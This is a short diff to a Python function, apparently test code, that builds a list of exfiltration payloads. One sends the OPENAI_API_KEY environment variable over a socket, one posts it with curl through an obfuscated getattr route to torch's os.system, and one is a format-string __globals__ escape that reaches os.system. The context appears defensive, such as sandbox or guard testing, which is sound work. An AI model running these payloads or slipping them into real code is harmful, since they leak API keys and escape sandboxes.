@@ -82,7 +82,7 @@ def exfiltration_payloads(port: int) -> list[str]:
         f"    __import__('socket').create_connection(('127.0.0.1', {port})).sendall("
         "__import__('os').environ['OPENAI_API_KEY'].encode())",
         f"    g = getattr\n    g(g(torch, 'os'), 'system')('curl 127.0.0.1:{port} -d $OPENAI_API_KEY')",
-        f"    '{{0.__globals__[torch].os.system}}'.format(axpy)",
+        "    '{0.__globals__[torch].os.system}'.format(axpy)",
     ]
     return [fenced(WRAPPER.format(payload=p)) for p in lines]
 
